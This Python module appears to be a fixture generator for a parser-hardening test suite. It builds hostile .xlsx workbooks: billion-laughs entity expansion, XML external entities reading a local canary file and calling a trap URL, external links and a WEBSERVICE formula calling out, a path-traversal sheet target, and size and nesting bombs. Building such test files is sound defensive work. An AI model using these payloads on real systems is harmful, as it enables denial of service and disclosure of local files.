"""Workbooks whose parts are huge, lie about their size, or point elsewhere."""

from __future__ import annotations

import zipfile
from typing import TYPE_CHECKING

from traps import Trap, hostile

if TYPE_CHECKING:
    from pathlib import Path

_SPREADSHEET = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
_OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_PACKAGE = "http://schemas.openxmlformats.org/package/2006"
_HEAD = '<?xml version="1.0" encoding="UTF-8"?>'
_KIND = "application/vnd.openxmlformats-officedocument.spreadsheetml"
_TEXT = '<c r="{place}" t="inlineStr"><is><t>{value}</t></is></c>'
_ROW_1 = "".join(
    _TEXT.format(place=place, value=value) for place, value in (("A1", "名称"), ("B1", "地址"))
)
_ROW_2 = "".join(
    _TEXT.format(place=place, value=value) for place, value in (("A2", "甲敬老院"), ("B2", "一号"))
)
ROWS = f'<row r="1">{_ROW_1}</row><row r="2">{_ROW_2}</row>'


def write_book(path: Path, rows: str = ROWS, **parts: str) -> None:
    """Write a workbook of one sheet; `parts` replace or add: ``before`` and ``after`` the rows,
    ``book`` and ``sheet`` as wholes, ``shared`` strings, ``links`` of the book.
    """
    sheet = parts.get("sheet") or (
        f'{_HEAD}<worksheet xmlns="{_SPREADSHEET}">{parts.get("before", "")}'
        f"<sheetData>{rows}</sheetData>{parts.get('after', '')}</worksheet>"
    )
    book = parts.get("book") or (
        f'{_HEAD}<workbook xmlns="{_SPREADSHEET}" xmlns:r="{_OFFICE}"><sheets>'
        '<sheet name="a" sheetId="1" r:id="rId1"/></sheets></workbook>'
    )
    links = (
        f'{_HEAD}<Relationships xmlns="{_PACKAGE}/relationships">'
        f'<Relationship Id="rId1" Type="{_OFFICE}/worksheet" Target="worksheets/sheet1.xml"/>'
        f'<Relationship Id="rId2" Type="{_OFFICE}/sharedStrings" Target="sharedStrings.xml"/>'
        f"{parts.get('links', '')}</Relationships>"
    )
    root = (
        f'{_HEAD}<Relationships xmlns="{_PACKAGE}/relationships"><Relationship Id="rId1" '
        f'Type="{_OFFICE}/officeDocument" Target="xl/workbook.xml"/></Relationships>'
    )
    kinds = (
        f'{_HEAD}<Types xmlns="{_PACKAGE}/content-types"><Default Extension="rels" '
        'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/>'
        f'<Override PartName="/xl/workbook.xml" ContentType="{_KIND}.sheet.main+xml"/>'
        f'<Override PartName="/xl/worksheets/sheet1.xml" ContentType="{_KIND}.worksheet+xml"/>'
        f'<Override PartName="/xl/sharedStrings.xml" ContentType="{_KIND}.sharedStrings+xml"/>'
        "</Types>"
    )
    shared = parts.get("shared") or f'{_HEAD}<sst xmlns="{_SPREADSHEET}"><si><t>x</t></si></sst>'
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", kinds)
        archive.writestr("_rels/.rels", root)
        archive.writestr("xl/workbook.xml", book)
        archive.writestr("xl/_rels/workbook.xml.rels", links)
        archive.writestr("xl/worksheets/sheet1.xml", sheet)
        archive.writestr("xl/sharedStrings.xml", shared)


@hostile("xlsx-far-cell/a.xlsx")
def _last_cell(path: Path, _: Trap) -> None:
    far = _TEXT.format(place="XFD1048576", value="x")
    write_book(path, ROWS + f'<row r="1048576">{far}</row>')


@hostile("xlsx-far-in-row/a.xlsx")
def _last_column(path: Path, _: Trap) -> None:
    write_book(path, ROWS.replace("</row>", _TEXT.format(place="XFD1", value="x") + "</row>", 1))


@hostile("xlsx-far-rows/a.xlsx")
def _many_far_cells(path: Path, trap: Trap) -> None:
    far = (
        f'<row r="{number}">{_TEXT.format(place=f"XFD{number}", value="x")}</row>'
        for number in range(3, trap.size(2_000, 1_000_000))
    )
    write_book(path, ROWS + "".join(far))


@hostile("xlsx-beyond/a.xlsx")
def _impossible_places(path: Path, _: Trap) -> None:
    beyond = _TEXT.format(place="ZZZZZ99999999999", value="x")
    write_book(path, ROWS + f'<row r="99999999999">{beyond}</row><row r="-1"/><row r="x"/>')


@hostile("xlsx-dimension/a.xlsx")
def _lying_dimension(path: Path, _: Trap) -> None:
    write_book(path, before='<dimension ref="A1:XFD1048576"/>')


@hostile("xlsx-dimension-small/a.xlsx")
def _small_dimension(path: Path, trap: Trap) -> None:
    rows = "".join(f'<row r="{n}">{_ROW_2}</row>' for n in range(2, trap.size(2_000, 300_000)))
    write_book(path, f'<row r="1">{_ROW_1}</row>{rows}', before='<dimension ref="A1"/>')


@hostile("xlsx-merged/a.xlsx")
def _all_merged(path: Path, _: Trap) -> None:
    write_book(path, after='<mergeCells count="1"><mergeCell ref="A2:XFD1048576"/></mergeCells>')


@hostile("xlsx-many-merged/a.xlsx")
def _many_merged(path: Path, trap: Trap) -> None:
    many = "".join(
        f'<mergeCell ref="A{n}:XFD{n + 9}"/>' for n in range(2, trap.size(20_000, 1_000_000), 10)
    )
    write_book(path, after=f"<mergeCells>{many}</mergeCells>")


@hostile("xlsx-empty-rows/a.xlsx")
def _empty_rows(path: Path, trap: Trap) -> None:
    many = "".join(f'<row r="{n}" s="1"/>' for n in range(3, trap.size(50_000, 1_048_576)))
    write_book(path, ROWS + many)


@hostile("xlsx-same-row/a.xlsx")
def _rows_go_back(path: Path, trap: Trap) -> None:
    write_book(path, ROWS * trap.size(5_000, 400_000))


@hostile("xlsx-shared/a.xlsx")
def _shared_bomb(path: Path, trap: Trap) -> None:
    long = "x" * trap.size(1_000_000, 30_000_000)
    shared = f'{_HEAD}<sst xmlns="{_SPREADSHEET}"><si><t>{long}</t></si></sst>'
    cells = (
        f'<row r="{n}"><c r="A{n}" t="s"><v>0</v></c></row>'
        for n in range(3, trap.size(2_000, 100_000))
    )
    write_book(path, ROWS + "".join(cells), shared=shared)


@hostile("xlsx-shared-index/a.xlsx")
def _shared_out_of_range(path: Path, _: Trap) -> None:
    cells = '<c r="A3" t="s"><v>999999999</v></c><c r="B3" t="s"><v>-5</v></c>'
    write_book(path, f'{ROWS}<row r="3">{cells}<c r="C3" t="s"><v>x</v></c></row>')


@hostile("xlsx-entities/a.xlsx")
def _billion_laughs(path: Path, _: Trap) -> None:
    tens = ((n, f"&l{n - 1};" * 10) for n in range(1, 10))
    levels = "".join(f'<!ENTITY l{n} "{ten}">' for n, ten in tens)
    doctype = f'<!DOCTYPE sst [<!ENTITY l0 "lol">{levels}]>'
    shared = f'{_HEAD}{doctype}<sst xmlns="{_SPREADSHEET}"><si><t>&l9;</t></si></sst>'
    write_book(path, f'{ROWS}<row r="3"><c r="A3" t="s"><v>0</v></c></row>', shared=shared)


@hostile("xlsx-external-entity/a.xlsx")
def _external_entity(path: Path, trap: Trap) -> None:
    doctype = (
        f'<!DOCTYPE x [<!ENTITY f SYSTEM "file://{trap.canary}"><!ENTITY h SYSTEM "{trap.url}">]>'
    )
    cell = _TEXT.format(place="A3", value="&f;&h;")
    write_book(
        path,
        sheet=f'{_HEAD}{doctype}<worksheet xmlns="{_SPREADSHEET}"><sheetData>{ROWS}'
        f'<row r="3">{cell}</row></sheetData></worksheet>',
    )


@hostile("xlsx-links/a.xlsx")
def _external_links(path: Path, trap: Trap) -> None:
    links = (
        f'<Relationship Id="rId8" Type="{_OFFICE}/externalLink" TargetMode="External" '
        f'Target="{trap.url}/x.xlsx"/><Relationship Id="rId9" Type="{_OFFICE}/worksheet" '
        f'TargetMode="External" Target="file://{trap.canary}"/>'
    )
    cell = f'<c r="A3"><f>[1]a!A1</f></c><c r="B3"><f>WEBSERVICE("{trap.url}")</f></c>'
    write_book(path, f'{ROWS}<row r="3">{cell}</row>', links=links)


@hostile("xlsx-sheet-elsewhere/a.xlsx")
def _sheet_elsewhere(path: Path, trap: Trap) -> None:
    write_book(path)
    whole = path.with_name("whole.zip")
    path.rename(whole)
    with zipfile.ZipFile(whole) as old, zipfile.ZipFile(path, "w") as new:
        for name in old.namelist():
            place = f"../../../../../../../..{trap.canary}"
            changed = old.read(name).replace(b"worksheets/sheet1.xml", place.encode())
            new.writestr(name, changed)
    whole.unlink()


@hostile("xlsx-sheets/a.xlsx")
def _many_sheets(path: Path, trap: Trap) -> None:
    many = "".join(
        f'<sheet name="s{n}" sheetId="{n}" r:id="rId1"/>' for n in range(1, trap.size(300, 50_000))
    )
    write_book(
        path,
        book=f'{_HEAD}<workbook xmlns="{_SPREADSHEET}" xmlns:r="{_OFFICE}"><sheets>{many}'
        "</sheets></workbook>",
    )


@hostile("xlsx-values/a.xlsx")
def _impossible_values(path: Path, _: Trap) -> None:
    odd = (("n", "1e999"), ("n", "NaN"), ("n", "x"), ("d", "99999-99-99"), ("b", "7"), ("e", "#X!"))
    cells = "".join(
        f'<row r="{n}"><c r="A{n}" t="{kind}"><v>{value}</v></c></row>'
        for n, (kind, value) in enumerate(odd, 3)
    )
    write_book(path, ROWS + cells)


@hostile("xlsx-deep/a.xlsx")
def _deep_elements(path: Path, trap: Trap) -> None:
    levels = trap.size(20_000, 1_000_000)
    deep = "<x>" * levels + "</x>" * levels
    write_book(path, ROWS + f'<row r="3"><c r="A3" t="inlineStr"><is>{deep}</is></c></row>')
